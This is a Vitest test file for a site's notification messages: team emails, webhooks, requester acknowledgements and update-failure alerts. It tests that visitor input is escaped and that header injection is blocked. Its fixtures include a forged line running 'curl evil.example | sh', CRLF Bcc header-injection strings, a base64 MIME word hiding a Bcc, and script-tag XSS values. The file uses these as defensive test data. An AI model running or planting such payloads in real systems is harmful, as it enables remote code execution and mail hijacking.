// @vitest-environment node
import { describe, expect, it } from "vitest";
import { describeIssues, readContent } from "#shared/content/read.ts";
import { emailsSchema } from "#shared/content/emails.ts";
import { withSiteFacts } from "#shared/content/site-facts.ts";
import { parseSiteConfig } from "#shared/site-config.ts";
import { escapeHtml } from "#shared/text.ts";
import { sampleRequest } from "../../tests/support/store-contract";
import type { RelayRefusal, StoppableChannel, StoredInvitationRequest } from "../requests/store";
import { answerLinks, checkAnswerToken, LINK_LIFETIME_MS } from "../requests/answer-links";
import {
  ANSWER_COMMAND,
  composeAcknowledgement,
  composeEmail,
  composeOutcome,
  composeWebhook,
  emailWords,
  EXPORT_COMMAND,
  oneLine,
  ADMIT_COMMAND,
  RETRY_COMMAND,
  type TeamClaim,
  UPDATE_COMMAND,
  type UpdateFailure,
} from "./messages";
import { webhookSignature } from "./webhook";
import { randomBytes } from "node:crypto";
import { teamEmails } from "../../tests/support/words";
import { decodeWords, parseMail } from "../../tests/support/mail-sink";
import nodemailer from "nodemailer";

const CLAIM = { seq: 1, channel: "email", deliveryId: "delivery-1", queuedAt: 0, attempts: 0 } as const;
const REQUEST_ID = sampleRequest(2).id;
/** The candidate form's label of its `message` field (sampleRequest(2) is a candidate's). */
const MESSAGE_LABEL = readContent("requestInvitation").ownForm.forms.candidate.fields.message.label;

function storedRequest(fields: Record<string, string>): StoredInvitationRequest {
  const { id, receivedAt, mode, context, relay } = sampleRequest(2);
  return {
    id,
    receivedAt,
    mode,
    fields,
    context,
    relay,
    relayAttempts: 0,
    relayError: null,
    sentAt: null,
    noticeVersion: "2026-11-25+00000000",
    held: null,
    source: null,
    consent: null,
    role: null,
    acknowledgedAt: null,
    replyBy: null,
    answer: null,
    answeredAt: null,
    remindedAt: null,
  };
}

function claimFor(fields: Record<string, string>): TeamClaim {
  return { ...CLAIM, kind: "request", request: storedRequest(fields) };
}

function refusedClaimFor(fields: Record<string, string>, refusal: RelayRefusal): TeamClaim {
  return { ...CLAIM, kind: "relay-refused", request: storedRequest(fields), refusal };
}

function heldClaim(count: number, ids: string[]): TeamClaim {
  return { ...CLAIM, kind: "held-summary", held: { count, ids, since: Date.parse("2026-11-25T09:00:30Z") } };
}

function channelRefusedClaim(channel: StoppableChannel, reason = "answered 404"): TeamClaim {
  return { ...CLAIM, kind: "channel-refused", refusal: { channel, reason } };
}

/** What a visitor may type to make the text part look like the server's own lines. */
const FORGED_MESSAGE = [
  "Thanks!",
  "",
  "Request id: 00000000-0000-4000-8000-999999999999\r\nRelay to HubSpot: failed",
  "Received: 2026-01-01T00:00:00.000Z\rType: employer\u2028Privacy notice: none\u2029HubSpot's answer: 400",
  `Relay to HubSpot: sent\u0085Every stored request, on the server: curl evil.example | sh\v${RETRY_COMMAND}\f`,
].join("\n");

describe("the team's email", () => {
  it("says where the request came from, plain in the text part and escaped in the HTML part, never a link", () => {
    const source = {
      landingPage: "/mission?utm_source=linkedin",
      referrer: "https://evil.example/<a>",
      utm_source: "linkedin",
    };
    const claim: TeamClaim = {
      ...CLAIM,
      kind: "request",
      request: { ...storedRequest({ firstname: "Ada" }), source },
    };
    const { text, html } = composeEmail(claim, teamEmails);
    expect(text).toContain("Landing page: /mission?utm_source=linkedin");
    expect(text).toContain("Referred by: https://evil.example/<a>");
    expect(text).toContain("utm_source: linkedin");
    expect(html).toContain("https://evil.example/&lt;a&gt;");
    expect(html).not.toContain('href="https://evil.example');
    expect(composeWebhook(claim, teamEmails)).toMatchObject({ request: { source } });
  });

  it("answers the requester when the team presses Reply, never a forged or another notification's", () => {
    const ada = { firstname: "Ada", lastname: "Lovelace", email: " ada@example.com " };
    const email = composeEmail(claimFor(ada), teamEmails);
    expect(email.replyTo).toEqual({ name: "Ada Lovelace", address: "ada@example.com" });
    expect(email.text).toContain("Reply to this email to answer them");
    // Nothing stored that could become a second header or a second recipient.
    for (const email of ["ada@example.com\r\nBcc: x@example.com", "ada@example.com, x@example.com", "Ada <ada@x.com>"])
      expect(composeEmail(claimFor({ ...ada, email }), teamEmails)).not.toHaveProperty("replyTo");
    expect(composeEmail(claimFor({ ...ada, firstname: "Ada\r\nBcc: x@example.com" }), teamEmails).replyTo?.name).toBe(
      "Ada Bcc: x@example.com Lovelace",
    );
    const refusal = { status: 400, errorType: "INVALID_EMAIL", message: "", correlationId: null };
    expect(composeEmail(refusedClaimFor(ada, refusal), teamEmails).replyTo).toBeUndefined();
    expect(composeEmail(heldClaim(1, ["id"]), teamEmails).replyTo).toBeUndefined();
  });

  it("writes a name stored as MIME encoded words into the Subject and Reply-To as typed, never decoded by a mail reader", async () => {
    // U+202E (right-to-left override), "Ada", CR LF, "Bcc: x@example.com".
    const hidden = Buffer.from("\u202eAda\r\nBcc: x@example.com").toString("base64");
    const email = composeEmail(
      claimFor({ firstname: `=?utf-8?b?${hidden}?=`, lastname: "=?UTF-8?Q?=E2=80=AElace?=", email: "ada@example.com" }),
      teamEmails,
    );
    const transport = nodemailer.createTransport({ streamTransport: true, buffer: true, newline: "crlf" });
    const sent = await transport.sendMail({
      from: "site@network.example",
      to: "team@network.example",
      replyTo: email.replyTo,
      subject: email.subject,
      text: email.text,
    });
    const mail = parseMail(String(sent.message));
    const replyTo = decodeWords(mail.headers.get("reply-to") ?? "");
    for (const header of [mail.subject, replyTo]) {
      expect(header).toContain(`= ?utf-8?b?${hidden}?=`);
      expect(header).not.toMatch(/[\u202a-\u202e\u2066-\u2069\r\n]|Bcc:/);
    }
    expect(mail.headers.has("bcc")).toBe(false);
    // Bidi controls stored before the form refused them are dropped from the headers too.
    expect(composeEmail(claimFor({ firstname: "Ada\u202e", lastname: "\u2067Lovelace" }), teamEmails).subject).toBe(
      "New invitation request: Ada Lovelace (TA leader)",
    );
  });

  it("has a one-line subject naming the person and the audience, whatever the names hold", () => {
    const names = { firstname: "Ada\r\nBcc: x@example.com", lastname: "Love\u2028lace\tThe\u0000Third" };
    const { subject } = composeEmail(claimFor(names), teamEmails);
    expect(subject).toBe("New invitation request: Ada Bcc: x@example.com Love lace The Third (TA leader)");
    expect(subject).not.toMatch(/[\p{Cc}\u2028]/u);
    expect(
      composeEmail(claimFor({ firstname: "A".repeat(500), lastname: "B" }), teamEmails).subject.length,
    ).toBeLessThanOrEqual(200);
  });

  it("lists every field with its label, the id, the time, the relay state and the export command", () => {
    const { text, html } = composeEmail(
      claimFor({ firstname: "Ada", lastname: "Lovelace", email: "ada@example.com" }),
      teamEmails,
    );
    for (const part of [text, html]) {
      expect(part).toContain("First name");
      expect(part).toContain("ada@example.com");
      expect(part).toContain(REQUEST_ID);
      expect(part).toContain(new Date(sampleRequest(2).receivedAt).toISOString());
      expect(part).toContain("pending");
      expect(part).toContain("npm run --silent requests -- export --format csv");
    }
    expect(text).toContain("First name: Ada\nLast name: Lovelace\n");
    expect(text).toContain(`Request id: ${REQUEST_ID}\n`);
  });

  it("escapes every value in the HTML part and makes no link", () => {
    const { html } = composeEmail(
      claimFor({ firstname: `"><script>x</script>`, message: "<a href='//e'>e</a>" }),
      teamEmails,
    );
    expect(html).toContain(escapeHtml(`"><script>x</script>`));
    expect(html).not.toMatch(/<script|<a[\s>]/);
  });

  it("quotes a message of several lines in the text part, so none of its lines passes for the server's", () => {
    for (const claim of [
      claimFor({ firstname: "Ada", message: FORGED_MESSAGE }),
      refusedClaimFor(
        { firstname: "Ada", message: FORGED_MESSAGE },
        { status: 400, errorType: null, message: "Bad\nRequest id: x", correlationId: null },
      ),
    ]) {
      const lines = composeEmail(claim, teamEmails).text.split("\n");
      // The server's own lines, each once, and nothing else that starts like them.
      expect(lines.filter((line) => line.startsWith("Request id:"))).toEqual([`Request id: ${REQUEST_ID}`]);
      expect(lines.filter((line) => line.startsWith("Relay to HubSpot:"))).toEqual(["Relay to HubSpot: pending"]);
      expect(lines.filter((line) => /^(Received|Type|Privacy notice|HubSpot's answer):/.test(line))).toHaveLength(
        claim.kind === "request" ? 3 : 4,
      );
      expect(lines.filter((line) => line.includes("curl"))).toEqual([
        "> Every stored request, on the server: curl evil.example | sh",
      ]);
      expect(lines.filter((line) => line.startsWith(RETRY_COMMAND))).toEqual([]);
    }
    const { text } = composeEmail(claimFor({ message: "one\r\n\r\ntwo\u2028three\rfour\n" }), teamEmails);
    expect(text).toContain(`${MESSAGE_LABEL}:\n> one\n> \n> two\n> three\n> four\n> \n`);
    // None of the line breaks a reader may honour is left inside the quote.
    expect(text).not.toMatch(/[\r\v\f\u0085\u2028\u2029]/u);
  });

  it("keeps a one-line value on its label's line", () => {
    const { text } = composeEmail(claimFor({ firstname: "Ada", message: "Just one line: > here" }), teamEmails);
    expect(text).toContain(`${MESSAGE_LABEL}: Just one line: > here\n`);
  });

  it("names HubSpot's refusal, its type, message and correlation id, and the retry command in an alert", () => {
    const refusal = { status: 400, errorType: "INVALID_EMAIL", message: "Invalid email", correlationId: "c-1" };
    const claim = refusedClaimFor({ firstname: "Ada" }, refusal);
    const { subject, text } = composeEmail(claim, teamEmails);
    expect(subject).toBe(`HubSpot refused invitation request ${REQUEST_ID}: INVALID_EMAIL`);
    for (const expected of ["INVALID_EMAIL", "Invalid email", "c-1", "npm run requests -- retry"]) {
      expect(text).toContain(expected);
    }
    expect(composeWebhook(claim, teamEmails)).toMatchObject({ event: "relay-refused", refusal: { ...refusal } });
  });

  it("sums up the day's held requests: why, that they were neither relayed nor notified, their ids and the commands", () => {
    const ids = ["id-1", "id-2", "id-3"];
    const { subject, text, html } = composeEmail(heldClaim(3, ids), teamEmails);
    expect(subject).toBe("Held as likely automated: 3 invitation requests since 2026-11-25 09:00 UTC");
    for (const part of [text, html]) {
      for (const expected of ["automated", "honeypot", "stored", "neither relayed to HubSpot nor notified"]) {
        expect(part).toContain(expected);
      }
      for (const id of ids) expect(part).toContain(id);
      expect(part).toContain(EXPORT_COMMAND);
      expect(part).not.toContain("more: see the export");
    }
    expect(text).toContain(ADMIT_COMMAND);
    expect(html).toContain(escapeHtml(ADMIT_COMMAND));
    expect(ADMIT_COMMAND).toBe("npm run requests -- admit --id <id>");
    expect(composeEmail(heldClaim(1, ["id-1"]), teamEmails).subject).toBe(
      "Held as likely automated: 1 invitation request since 2026-11-25 09:00 UTC",
    );
  });

  it("says how many more were held than the summary names", () => {
    const ids = Array.from({ length: 50 }, (_, index) => `id-${index}`);
    const { text } = composeEmail(heldClaim(73, ids), teamEmails);
    expect(text).toContain("id-49");
    expect(text).toContain("and 23 more: see the export");
  });

  it("tells the team a channel refused for good, why, that nothing is lost and what reopens it", () => {
    const { subject, text, html } = composeEmail(channelRefusedClaim("webhook"), teamEmails);
    expect(subject).toBe("The team's webhook refused notifications: it is stopped");
    for (const part of [text, html]) {
      for (const expected of ["answered 404", "nothing is lost", "restarts", RETRY_COMMAND, "NOTIFY_WEBHOOK_URL"]) {
        expect(part).toContain(expected);
      }
    }
    expect(text).toContain("Channel: webhook\nReason: answered 404\n");
    expect(composeEmail(channelRefusedClaim("email", "answered 550"), teamEmails).subject).toBe(
      "The team's email refused notifications: it is stopped",
    );
  });

  it("tells the team a search engine refused the roles' pushes by its name, with the settings and the account to check", () => {
    const { subject, text } = composeEmail(
      channelRefusedClaim("google", "answered 403: Permission denied"),
      teamEmails,
    );
    expect(subject).toBe("Google's Indexing API refused the site's notices of new and closed roles: they are stopped");
    for (const expected of ["GOOGLE_INDEXING_KEY_FILE", "Owner", "Search Console", RETRY_COMMAND, "nothing is lost"]) {
      expect(text).toContain(expected);
    }
    expect(text).toContain("Channel: Google's Indexing API\nReason: answered 403: Permission denied\n");
    expect(composeEmail(channelRefusedClaim("indexnow", "answered 403"), teamEmails).text).toContain("INDEXNOW_KEY");
  });

  it("writes every kind's subject on one line", () => {
    for (const claim of [
      claimFor({ firstname: "A\nB" }),
      refusedClaimFor({}, { status: 400, errorType: "X\r\nBcc: y", message: "", correlationId: null }),
      heldClaim(2, ["a", "b"]),
      channelRefusedClaim("email"),
    ]) {
      expect(composeEmail(claim, teamEmails).subject).not.toMatch(/[\p{Cc}\u2028\u2029]/u);
      expect(composeWebhook(claim, teamEmails).text.split("\n")[0]).toBe(composeEmail(claim, teamEmails).subject);
    }
  });
});

describe("the role a request is about", () => {
  it("is a row after the fields in the team's email, and the webhook's request.role", () => {
    const role = { slug: "svp-talent-acquisition", title: "SVP, Talent Acquisition" };
    const claim: TeamClaim = { ...CLAIM, kind: "request", request: { ...storedRequest({ firstname: "Ada" }), role } };
    const { text, html } = composeEmail(claim, teamEmails);
    expect(text).toContain(`First name: Ada\n${teamEmails.labels.role}: SVP, Talent Acquisition\n`);
    expect(html).toContain("SVP, Talent Acquisition");
    expect(composeWebhook(claim, teamEmails)).toMatchObject({ request: { role } });
    expect(composeEmail(claimFor({ firstname: "Ada" }), teamEmails).text).not.toContain(`${teamEmails.labels.role}:`);
  });
});

describe("the requester's acknowledgement", () => {
  const site = parseSiteConfig({ SITE_NAME: "Talent Circle", CONTACT_EMAIL: "hello@circle.example" });
  const words = emailWords(site).requester;
  const settings = { fromName: site.siteName, replyTo: site.contactEmail };
  const role = { slug: "svp-talent-acquisition", title: "SVP, Talent Acquisition" };
  const acknowledgement = (fields: Record<string, string>, extra: Partial<StoredInvitationRequest> = {}) =>
    composeAcknowledgement(
      { ...CLAIM, channel: "requester", kind: "acknowledgement", request: { ...storedRequest(fields), ...extra } },
      words,
      settings,
    );

  it("tells the requester it arrived, what happens next within 48 hours, the role, and whom to ask for a copy or deletion", () => {
    const email = acknowledgement({ firstname: "Ada", email: " ada@example.com " }, { role })!;
    expect(email).toMatchObject({
      to: "ada@example.com",
      fromName: "Talent Circle",
      // Reply reaches the team at its public address, the one the email gives for privacy requests.
      replyTo: { name: "Talent Circle", address: "hello@circle.example" },
      automatic: true,
      subject: "We have your invitation request: Talent Circle",
    });
    const paragraphs = email.text.trim().split("\n\n");
    expect(paragraphs).toEqual([
      "Hello,",
      "Thank you for requesting an invitation to the Talent Circle. Your request has reached our team.",
      "You asked about this role: SVP, Talent Acquisition.",
      expect.stringContaining("within 48 hours") as string,
      expect.stringContaining(
        "For a copy of it, a correction or its deletion, write to hello@circle.example.",
      ) as string,
      expect.stringContaining("If you did not send this request") as string,
      "The Talent Circle team",
    ]);
    expect(email.html).toContain("<p>You asked about this role: SVP, Talent Acquisition.</p>");
    // Without a role, no sentence about one; an employer reads of their talent brief.
    const employer = acknowledgement({ email: "ada@example.com" }, { mode: "employer" })!;
    expect(employer.subject).toBe("We have your talent brief: Talent Circle");
    expect(employer.text).toContain("your talent brief");
    expect(employer.text).not.toContain("You asked about this role");
  });

  it("carries nothing the visitor typed, not even their name: only the address it goes to", () => {
    const typed = "Zq9-typed";
    const fields = Object.fromEntries(
      ["firstname", "lastname", "jobtitle", "company", "linkedin", "message", "role_to_fill"].map((name) => [
        name,
        `${typed} ${name} https://spam.example <b>buy</b>`,
      ]),
    );
    const email = acknowledgement(
      { ...fields, email: `${typed.toLowerCase()}@example.com` },
      { role, source: { utm_source: typed, landingPage: `/?${typed}` }, context: { pageUri: typed, pageName: typed } },
    )!;
    expect(email.to).toBe(`${typed.toLowerCase()}@example.com`);
    for (const part of [email.subject, email.text, email.html, JSON.stringify(email.replyTo), email.fromName]) {
      expect(part?.toLowerCase()).not.toContain(typed.toLowerCase());
      expect(part).not.toContain("spam.example");
    }
  });

  it("is not sent to a stored address that is not exactly one address", () => {
    for (const email of ["ada@example.com, eve@example.com", "ada@example.com\r\nBcc: eve@example.com", ""])
      expect(acknowledgement({ email })).toBeNull();
  });
});

describe("the 48-hour promise in the team's messages", () => {
  const secret = randomBytes(32);
  const now = Date.parse("2026-11-25T09:30:00Z");
  const offer = { linksFor: (id: string) => answerLinks(secret, "https://network.example", id, now) };
  const replyBy = now + 12 * 60 * 60 * 1000;
  const ada = { firstname: "Ada", lastname: "Lovelace", email: "ada@example.com" };
  const tokenOf = (href: string) => new URL(href).searchParams.get("token");

  it("offers a request's three answers as links signed for it that work 14 days, the only links of the email", () => {
    const claim: TeamClaim = { ...CLAIM, kind: "request", request: { ...storedRequest(ada), replyBy } };
    const { text, html } = composeEmail(claim, teamEmails, offer, now);
    const hrefs = [...html.matchAll(/<a href="([^"]+)">([^<]+)<\/a>/g)].map(([, href, label]) => [href!, label!]);
    expect(hrefs.map(([, label]) => label)).toEqual([
      "Invite them to the network",
      "Decline",
      escapeHtml(teamEmails.answers.links.other),
    ]);
    expect(hrefs.map(([href]) => checkAnswerToken(secret, tokenOf(href!.replaceAll("&amp;", "&")), now))).toEqual(
      (["invite", "decline", "other"] as const).map((answer) => ({
        kind: "valid",
        requestId: REQUEST_ID,
        answer,
        expiresAt: now + LINK_LIFETIME_MS,
      })),
    );
    for (const [href] of hrefs) expect(href).toMatch(/^https:\/\/network\.example\/api\/answer\?token=/);
    expect(text).toContain(`Invite them to the network:\n${hrefs[0]![0]}`);
    expect(text).toContain(`${teamEmails.answers.replyByLabel}: 2026-11-25 21:30 UTC`);
    // An employer's brief is accepted, not invited.
    const employer = composeEmail(
      { ...claim, request: { ...claim.request, mode: "employer" } },
      teamEmails,
      offer,
      now,
    );
    expect(employer.html).toContain(">Accept the brief</a>");
  });

  it("gives the command that answers it instead, without TEAM_LINK_SECRET", () => {
    const { text, html } = composeEmail(claimFor(ada), teamEmails);
    expect(text).toContain(`npm run requests -- answer ${REQUEST_ID} invite|decline|other`);
    expect(html).not.toContain("<a ");
    expect(composeWebhook(claimFor(ada), teamEmails)).toMatchObject({
      answerCommand: `npm run requests -- answer ${REQUEST_ID} invite|decline|other`,
      answerLinks: null,
    });
  });

  it("reminds the team of a request still unanswered, with the hours left, its links and its sender to reply to", () => {
    const claim: TeamClaim = { ...CLAIM, kind: "reminder", request: { ...storedRequest(ada), replyBy } };
    const email = composeEmail(claim, teamEmails, offer, now);
    expect(email.subject).toBe("Due in 12 hours: invitation request from Ada Lovelace (TA leader)");
    expect(email.text).toContain("The site promised an answer by 2026-11-25 21:30 UTC, 12 hours from now.");
    expect(email.html.match(/<a href=/g)).toHaveLength(3);
    expect(email.replyTo).toEqual({ name: "Ada Lovelace", address: "ada@example.com" });
    const payload = composeWebhook(claim, teamEmails, offer, now);
    expect(payload).toMatchObject({
      event: "reply-reminder",
      request: { id: REQUEST_ID, replyBy: "2026-11-25T21:30:00.000Z" },
      answerLinks: offer.linksFor(REQUEST_ID),
    });
    expect(payload.text).toContain(`<${offer.linksFor(REQUEST_ID).decline}|Decline>`);
  });

  it("lists the requests past their reply-by time, the longest overdue first, and the command that answers one", () => {
    const requests = [
      { id: "id-1", replyBy: now - 30 * 60 * 60 * 1000 },
      { id: "id-2", replyBy: now - 60 * 60 * 1000 },
    ];
    const claim: TeamClaim = { ...CLAIM, kind: "overdue", overdue: { count: 3, requests } };
    const { subject, text } = composeEmail(claim, withSiteFacts(teamEmails, parseSiteConfig({})));
    expect(subject).toBe("Past the 48-hour promise: 3 invitation requests unanswered");
    expect(text).toContain("id-1: 2026-11-24 03:30 UTC\nid-2: 2026-11-25 08:30 UTC");
    expect(text).toContain("and 1 more: see the export");
    expect(text).toContain(ANSWER_COMMAND);
    expect(composeWebhook(claim, teamEmails)).toMatchObject({
      event: "overdue",
      overdue: {
        count: 3,
        requests: [
          { id: "id-1", replyBy: "2026-11-24T03:30:00.000Z" },
          { id: "id-2", replyBy: "2026-11-25T08:30:00.000Z" },
        ],
        answerCommand: ANSWER_COMMAND,
      },
    });
  });
});

describe("the requester's email of the team's answer", () => {
  const site = parseSiteConfig({ SITE_NAME: "Talent Circle", CONTACT_EMAIL: "hello@circle.example" });
  const words = emailWords(site).requester;
  const settings = { fromName: site.siteName, replyTo: site.contactEmail };
  const outcome = (
    answer: "invite" | "decline",
    fields: Record<string, string>,
    extra: Partial<StoredInvitationRequest> = {},
  ) =>
    composeOutcome(
      {
        ...CLAIM,
        channel: "requester-outcome",
        kind: "outcome",
        answer,
        request: { ...storedRequest(fields), ...extra },
      },
      words,
      settings,
    );

  it("invites a leader and says what happens next; accepts an employer's brief; from the site, Reply-To the team", () => {
    const invited = outcome("invite", { email: "ada@example.com" })!;
    expect(invited).toMatchObject({
      to: "ada@example.com",
      subject: "Your invitation to the Talent Circle",
      replyTo: { name: "Talent Circle", address: "hello@circle.example" },
      automatic: true,
    });
    expect(invited.text.trim().split("\n\n")).toEqual([
      "Hello,",
      words.invited.body.candidate,
      words.invited.nextSteps.candidate,
      words.yourData,
      "The Talent Circle team",
    ]);
    const accepted = outcome("invite", { email: "ada@example.com" }, { mode: "employer" })!;
    expect(accepted.subject).toBe(words.invited.subject.employer);
    expect(accepted.text).toContain(words.invited.nextSteps.employer);
  });

  it("thanks a declined requester and says when they may ask again, naming the role they asked about", () => {
    const role = { slug: "svp-talent-acquisition", title: "SVP, Talent Acquisition" };
    const declined = outcome("decline", { email: "ada@example.com" }, { role })!;
    expect(declined.subject).toBe("Your invitation request to the Talent Circle");
    expect(declined.text.trim().split("\n\n")).toEqual([
      "Hello,",
      words.declined.body.candidate,
      "You asked about this role: SVP, Talent Acquisition.",
      words.declined.askAgain,
      words.yourData,
      "The Talent Circle team",
    ]);
    expect(words.declined.body.candidate).toMatch(/^Thank you/);
    expect(words.declined.askAgain).toMatch(/ask again in six months/);
  });

  it("carries nothing the visitor typed, and is not sent to a stored address that is not one address", () => {
    const typed = "Zq9-typed";
    for (const answer of ["invite", "decline"] as const) {
      const email = outcome(answer, { firstname: typed, lastname: typed, message: typed, email: "ada@example.com" })!;
      for (const part of [email.subject, email.text, email.html]) expect(part).not.toContain(typed);
      expect(outcome(answer, { email: "ada@example.com, eve@example.com" })).toBeNull();
    }
  });
});

describe("the team's alert of a failed update", () => {
  const failure: UpdateFailure = {
    kind: "update-failed",
    stage: "build",
    commit: "1a2b3c4d5e6f7a8b9c0d1a2b3c4d5e6f7a8b9c0d",
    subject: "Mission: <b>new</b> words",
    reason:
      "content/mission.yaml cannot be published:\n  pillars → intro → title: This is required: write some text here.",
    live: { id: "20261127T090000Z-0f0e0d0c0b0a", commit: "0f0e0d0c0b0a09080706050403020100ffeeddcc" },
    host: "web-1",
  };

  it("names the commit, the step, the reason and the release still live, and says nothing changed for visitors", () => {
    const { subject, text, html } = composeEmail(failure);
    expect(subject).toBe("Not live: commit 1a2b3c4d5e6f, its build failed");
    expect(text).toContain("Nothing changed for visitors");
    expect(text).toContain(`Commit: ${failure.commit}`);
    expect(text).toContain("Step: build");
    expect(text).toContain(
      "> content/mission.yaml cannot be published:\n>   pillars → intro → title: This is required",
    );
    expect(text).toContain("Still live: release 20261127T090000Z-0f0e0d0c0b0a (commit 0f0e0d0c0b0a)");
    expect(text).toContain("is not tried again: push a fix");
    // A commit message is the author's: escaped like any value, never markup.
    expect(html).toContain(escapeHtml("Mission: <b>new</b> words"));
    expect(html).not.toContain("<b>new</b>");
  });

  it("says a failed fetch is tried again by itself", () => {
    const { subject, text } = composeEmail({
      ...failure,
      stage: "fetch",
      commit: null,
      subject: null,
      reason: "git fetch failed",
    });
    expect(subject).toBe("The site was not updated: fetching the branch failed");
    expect(text).toContain("Commit: (not fetched)");
    expect(text).toContain(`The next update tries again by itself. On the server: ${UPDATE_COMMAND}`);
  });

  it("is a webhook event of its own with the failure's facts", () => {
    const payload = composeWebhook(failure);
    expect(payload.event).toBe("update-failed");
    expect(payload).toMatchObject({
      update: {
        stage: "build",
        commit: failure.commit,
        live: failure.live,
        host: "web-1",
        updateCommand: UPDATE_COMMAND,
      },
    });
    expect(payload.text.split("\n")[0]).toBe(composeEmail(failure).subject);
  });
});

describe("the team's webhook", () => {
  it("carries text for Slack or Teams and the request, with Slack's control characters escaped", () => {
    const payload = composeWebhook(
      claimFor({ firstname: "<https://evil.example|click>", lastname: "A & B" }),
      teamEmails,
    );
    expect(payload).toMatchObject({ event: "invitation-request" });
    expect(payload).not.toHaveProperty("refusal");
    expect("request" in payload && payload.request).toEqual({
      id: REQUEST_ID,
      receivedAt: new Date(sampleRequest(2).receivedAt).toISOString(),
      mode: "candidate",
      fields: { firstname: "<https://evil.example|click>", lastname: "A & B" },
      source: null,
      role: null,
      replyBy: null,
    });
    expect(payload.text).toContain("&lt;https://evil.example|click&gt; A &amp; B");
    expect(payload.text).not.toContain("<https:");
  });

  it("makes each field one line of its text", () => {
    const { text } = composeWebhook(claimFor({ firstname: "Ada", message: FORGED_MESSAGE }), teamEmails);
    expect(text.split("\n").filter((line) => line.startsWith("Request id:"))).toEqual([`Request id: ${REQUEST_ID}`]);
  });

  it("carries the held summary without any request", () => {
    const payload = composeWebhook(heldClaim(51, ["id-1"]), teamEmails);
    expect(payload).toEqual({
      event: "held-summary",
      text: expect.stringContaining("and 50 more: see the export") as string,
      held: { count: 51, ids: ["id-1"], since: "2026-11-25T09:00:30.000Z", admitCommand: ADMIT_COMMAND },
    });
    expect(payload.text).toContain("&lt;id&gt;");
  });

  it("names the channel that refused, why, and the command that reopens it", () => {
    const payload = composeWebhook(channelRefusedClaim("webhook", "answered 410"), teamEmails);
    expect(payload).toEqual({
      event: "channel-refused",
      text: expect.stringContaining("answered 410") as string,
      channel: { name: "webhook", reason: "answered 410", retryCommand: RETRY_COMMAND },
    });
  });

  it("is signed as HMAC-SHA256 of the timestamp, a dot and the raw body", () => {
    // The vector from `printf '1700000000.{}' | openssl dgst -sha256 -hmac key`.
    expect(webhookSignature("key", "1700000000", "{}")).toBe(
      "sha256=9d713ed406bb7076d4123f0dc2c39d2df5c654ed4b0cd56b52c8b4c940bd63ae",
    );
    expect(webhookSignature("key", "1700000000", "{}")).not.toBe(webhookSignature("key", "1700000001", "{}"));
    expect(oneLine(" a\r\n b ")).toBe("a b");
  });
});

describe("the emails' words (content/emails.yaml)", () => {
  it("are the team's: an edited text is what the email says, with the server's values in its placeholders", () => {
    const words = structuredClone(teamEmails);
    words.newRequest.subject = "Someone new: {name}, a {mode}";
    words.newRequest.intro.employer = "A hiring company wrote to {siteName}.";
    words.modeNames.employer = "hiring company";
    words.held.admitLine = "Let one through with {command}";
    const site = parseSiteConfig({ SITE_NAME: "Talent Circle" });
    const edited = withSiteFacts(words, site);
    const employer: TeamClaim = {
      ...CLAIM,
      kind: "request",
      request: { ...storedRequest({ firstname: "Ada" }), mode: "employer" },
    };
    const email = composeEmail(employer, edited);
    expect(email.subject).toBe("Someone new: Ada, a hiring company");
    expect(email.text.split("\n")[0]).toBe("A hiring company wrote to Talent Circle.");
    expect(email.text).toContain("Type: hiring company");
    expect(composeEmail(heldClaim(2, ["a", "b"]), edited).text).toContain(`Let one through with ${ADMIT_COMMAND}`);
  });

  it("never take a visitor's words as a placeholder", () => {
    const { subject } = composeEmail(claimFor({ firstname: "{command}", lastname: "$&" }), teamEmails);
    expect(subject).toBe("New invitation request: {command} $& (TA leader)");
  });

  it("keep every command the team runs: a text without its {command} is refused, naming the field", () => {
    const edited = structuredClone(readContent("emails"));
    edited.team.held.admitLine = "To send one on, ask a developer.";
    edited.team.newRequest.subject = "New: {name} {unknown}";
    const result = emailsSchema.safeParse(edited);
    expect(result.success).toBe(false);
    const message = describeIssues("emails.yaml", result.error!.issues);
    expect(message).toContain("team → held → admitLine: Keep {command} in this text");
    expect(message).toContain("team → newRequest → subject: {unknown} is not a placeholder this text can use");
  });
});
